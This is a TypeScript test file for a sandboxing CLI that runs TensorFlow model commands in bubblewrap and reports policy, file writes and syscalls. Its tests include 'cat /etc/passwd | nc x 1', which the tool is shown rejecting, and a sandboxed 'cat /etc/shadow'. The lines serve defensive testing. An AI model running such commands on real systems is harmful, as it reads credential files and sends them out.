// `tfaudit sandbox`: dry run (policy + exact command), JSON output, missing backend, usage errors,
// and a real run of a custom command through the CLI entry.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { readInputValues, renderComparisonText, sandboxCli, SANDBOX_EXIT } from '../../../main/cli/sandbox.ts';
import { findDisagreements } from '../../../main/sandbox/confirm.ts';
import type { SandboxRunReport } from '../../../shared/sandbox.ts';
import { tempDir } from '../../helpers/corpus.ts';
import { skipWithoutBwrap } from '../../fixtures/sandbox/host.ts';

function capture() {
  const out: string[] = [];
  const err: string[] = [];
  return { out, err, opts: { out: (t: string) => void out.push(t), err: (t: string) => void err.push(t) } };
}

test('--dry-run prints the policy and the exact bwrap command, runs nothing, leaves no scratch', { skip: skipWithoutBwrap }, async () => {
  const model = tempDir('tfaudit-cli-model-');
  try {
    const c = capture();
    const code = await sandboxCli(model, { ...c.opts, runner: 'custom', command: `/bin/sh -c 'echo ran > /scratch/x'`, dryRun: true, scan: false, timeout: 5 });
    assert.equal(code, SANDBOX_EXIT.ran, c.err.join(''));
    const text = c.out.join('');
    assert.match(text, /^Sandbox policy \(bubblewrap, runner custom\)/);
    assert.match(text, /network: +off \(own namespace\)/);
    assert.match(text, /static scan skipped/);
    const commandLine = text.split('Command:\n')[1]!.split('\n')[0]!.trim();
    assert.match(commandLine, /^\/\S*bwrap .*--unshare-net .*--ro-bind \S+ \/model .*-- .*prlimit .*\/bin\/sh -c 'echo ran > \/scratch\/x'$/);
    const scratch = /writable scratch: +(\S+)/.exec(text)![1]!;
    assert.ok(!existsSync(dirname(scratch)), 'dry run removes its scratch dir');

    const j = capture();
    assert.equal(await sandboxCli(model, { ...j.opts, runner: 'custom', command: '/bin/true', dryRun: true, scan: false, format: 'json' }), 0);
    const parsed = JSON.parse(j.out.join(''));
    assert.equal(parsed.policy.runner, 'custom');
    assert.ok(Array.isArray(parsed.command) && parsed.command.includes('--unshare-net'));
    assert.ok(parsed.configFiles.some((f: { path: string }) => f.path.endsWith('/etc/passwd')));
  } finally {
    rmSync(model, { recursive: true, force: true });
  }
});

test('no sandbox backend: exit 3 with the install command, nothing runs', async () => {
  const model = tempDir('tfaudit-cli-model-');
  const marker = join(model, 'ran');
  try {
    const c = capture();
    const code = await sandboxCli(model, { ...c.opts, runner: 'custom', command: `/bin/touch ${marker}`, scan: false, pathEnv: '/nonexistent' });
    assert.equal(code, SANDBOX_EXIT.unavailable);
    assert.match(c.err.join(''), /apt-get install bubblewrap/);
    assert.equal(c.out.join(''), '');
    assert.ok(!existsSync(marker), 'never run unsandboxed');
  } finally {
    rmSync(model, { recursive: true, force: true });
  }
});

test('usage errors: custom without --command, shell operators, bad numbers', async () => {
  const c = capture();
  assert.equal(await sandboxCli('/x', { ...c.opts, runner: 'custom' }), SANDBOX_EXIT.usage);
  assert.equal(await sandboxCli('/tmp', { ...c.opts, runner: 'custom', command: 'cat /etc/passwd | nc x 1' }), SANDBOX_EXIT.usage);
  assert.equal(await sandboxCli('/x', { ...c.opts, runner: 'tf-python', timeout: -1 }), SANDBOX_EXIT.usage);
  assert.match(c.err.join(''), /needs --command[\s\S]*not supported[\s\S]*--timeout must be a positive number/);
  assert.equal(await sandboxCli('/nonexistent/model', { ...c.opts, runner: 'custom', command: '/bin/true' }), SANDBOX_EXIT.unreadable);
  assert.equal(await sandboxCli('/tmp', { ...c.opts, checkpoint: '/nonexistent/ckpt' }), SANDBOX_EXIT.unreadable);
  assert.match(c.err.join(''), /no such file or directory[\s\S]*neither \/nonexistent\/ckpt\.index/);
});

test('a real run through the CLI: JSON report with exit status, files written, syscalls', { skip: skipWithoutBwrap }, async () => {
  const model = tempDir('tfaudit-cli-model-');
  try {
    writeFileSync(join(model, 'saved_model.pb'), 'x');
    const c = capture();
    const code = await sandboxCli(model, {
      ...c.opts, runner: 'custom', command: `/bin/sh -c 'echo hello; echo data > /tmp/out.txt; cat /etc/shadow; exit 3'`, scan: false, format: 'json', timeout: 20,
    });
    assert.equal(code, SANDBOX_EXIT.failed);
    const doc = JSON.parse(c.out.join(''));
    assert.deepEqual(Object.keys(doc), ['runs', 'differences', 'disagreements']);
    assert.equal(doc.runs.length, 1);
    const report = doc.runs[0];
    assert.equal(report.checkpoint, `${model}/variables/variables`, 'the model\'s own checkpoint is named like the analysis names it');
    assert.deepEqual(report.findings, []);
    assert.equal(report.exitCode, 3);
    assert.equal(report.signal, null);
    assert.equal(report.timedOut, false);
    assert.deepEqual(report.filesWritten, [{ path: '/tmp/out.txt', size: 5, change: 'created' }]);
    assert.ok(report.syscalls.some((s: { target: string; result: string }) => s.target === '/etc/shadow' && s.result === 'ENOENT'));
    assert.match(c.err.join(''), /hello/, 'live output goes to stderr in JSON mode');
    rmSync(dirname(report.policy.scratchDir), { recursive: true, force: true });
  } finally {
    rmSync(model, { recursive: true, force: true });
  }
});

test('--inputs and --compare: bad files and combinations are refused before anything runs', async () => {
  const dir = tempDir('tfaudit-cli-inputs-');
  try {
    const c = capture();
    assert.equal(await sandboxCli(dir, { ...c.opts, inputs: join(dir, 'missing.json') }), SANDBOX_EXIT.unreadable);
    const bad = join(dir, 'bad.json');
    writeFileSync(bad, JSON.stringify({ x: [[1, { nested: 'object' }]] }));
    assert.equal(await sandboxCli(dir, { ...c.opts, inputs: bad }), SANDBOX_EXIT.usage);
    writeFileSync(bad, JSON.stringify([1, 2]));
    assert.equal(await sandboxCli(dir, { ...c.opts, inputs: bad }), SANDBOX_EXIT.usage);
    assert.equal(await sandboxCli(dir, { ...c.opts, runner: 'custom', command: '/bin/true', compare: [dir] }), SANDBOX_EXIT.usage);
    assert.equal(await sandboxCli(dir, { ...c.opts, compare: ['/nonexistent/ckpt'] }), SANDBOX_EXIT.unreadable);
    const errors = c.err.join('');
    assert.match(errors, /missing\.json: no such file/);
    assert.match(errors, /input x must be a string, number, boolean or nested list of them/);
    assert.match(errors, /expected a JSON object of input name → value/);
    assert.match(errors, /--compare needs the tf-python runner/);
    assert.match(errors, /checkpoint \/nonexistent\/ckpt: neither/);
    const good = join(dir, 'good.json');
    writeFileSync(good, JSON.stringify({ x: [[1.5, 2]], words: ['a', 'b'], flag: true }));
    assert.deepEqual(readInputValues(good), { x: [[1.5, 2]], words: ['a', 'b'], flag: true });
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('text report: disagreements first, verdicts per run, saver ops on one line, the checkpoint-against-checkpoint summary', () => {
  const finding = (id: string, op: string, observed: 'confirmed' | 'not-observed' | 'inconclusive', evidence: string, statik: 'active' | 'dormant' | 'ungated') =>
    ({ id, op, capability: 'file-write' as const, target: op === 'WriteFile' ? '/tmp/c' : null, static: statik, observed, evidence: [evidence] });
  const base = { policy: { signature: 'serving_default' }, filesWritten: [], syscalls: [] } as unknown as SandboxRunReport;
  const saverLine = "TensorFlow's own save/restore machinery: the runner's load and restore exercise it";
  const own = { ...base, checkpoint: 'm/variables/variables', findings: [finding('F1', 'WriteFile', 'confirmed', 'openat(write) /tmp/c → ok', 'dormant'), finding('F2', 'SaveV2', 'inconclusive', saverLine, 'ungated'), finding('F3', 'RestoreV2', 'inconclusive', saverLine, 'ungated')] };
  const active = { ...base, checkpoint: 'm/ckpt', findings: [finding('F1', 'WriteFile', 'not-observed', 'the signature serving_default returned', 'active')] };
  const runs = [own, active];
  const text = renderComparisonText({ runs, differences: [], disagreements: findDisagreements(runs) });
  const lines = text.split('\n');
  assert.equal(lines[0], 'DISAGREEMENT between the static analysis and the sandbox (2):');
  assert.ok(text.includes('F1   WriteFile (file-write /tmp/c): static dormant, sandbox CONFIRMED'));
  assert.ok(text.includes("  F2 SaveV2, F3 RestoreV2: TensorFlow's own save/restore machinery, not judged by the run (inconclusive)"));
  assert.ok(text.includes('  under m/variables/variables: wrote /tmp/c\n  under m/ckpt: none of that'));
});
